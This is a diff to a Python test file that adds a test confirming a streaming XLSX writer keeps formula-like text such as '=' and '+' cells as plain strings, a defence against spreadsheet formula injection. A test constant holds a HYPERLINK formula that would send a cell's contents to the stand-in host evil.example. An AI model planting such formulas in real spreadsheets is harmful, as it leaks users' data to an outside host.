@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from shared.spreadsheets import FORMULA_STARTS, csv_writer, safe_text, xlsx_bytes
+from shared.spreadsheets import FORMULA_STARTS, XlsxStream, csv_writer, safe_text, xlsx_bytes
 
 ROOT = Path(__file__).resolve().parents[1]
 HOSTILE = '=HYPERLINK("http://evil.example/?"&B9,"Xem")'
@@ -52,6 +52,20 @@ def test_xlsx_keeps_formula_text_as_a_string():
 
     assert (cells["A1"].value, cells["A1"].data_type) == (HOSTILE, "s")
     assert (cells["A2"].value, cells["A2"].data_type) == (7, "n")
+
+
+def test_the_streaming_xlsx_keeps_formula_text_as_a_string():
+    stream = XlsxStream()
+    sheet = stream.sheet("R5")
+    sheet.append([HOSTILE, 7, "+1", sheet.cell(HOSTILE), "Thôn Đông"])
+    out = io.BytesIO()
+    stream.write_to(out)
+
+    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(max_row=1))
+
+    assert [(cell.value, cell.data_type) for cell in row] == [
+        (HOSTILE, "s"), (7, "n"), ("+1", "s"), (HOSTILE, "s"), ("Thôn Đông", "s"),
+    ]  # fmt: skip
 
 
 def test_the_apps_write_csv_and_xlsx_only_through_shared_spreadsheets():
